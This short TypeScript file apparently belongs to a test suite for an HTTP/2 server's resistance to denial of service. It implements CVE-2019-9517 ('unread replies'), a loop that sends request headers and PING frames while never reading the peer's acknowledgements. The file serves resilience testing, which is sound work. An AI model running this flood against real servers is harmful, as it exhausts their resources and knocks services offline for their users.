import * as wire from '../http2/wire.js';
import { header } from './call.js';
import { repeatedly } from './offender.js';
import type { TestedAttack } from './tested-attack.js';

const ping = wire.frame(wire.PING, 0, 0, Buffer.alloc(8));

/** CVE-2019-9517: asks for acknowledgements and does not read them, with just enough requests to look busy. */
export const attack: TestedAttack = {
  name: 'unread replies',
  reason: 'the peer does not read',
  run: (connect, signal) =>
    repeatedly(
      connect,
      signal,
      async (offender) => {
        for (let id = 1; offender.open; id += 2) {
          await offender.send(header(id, 'NoSuchCall'), ...Array.from({ length: 3 }, () => ping));
        }
      },
      { reads: false },
    ),
};
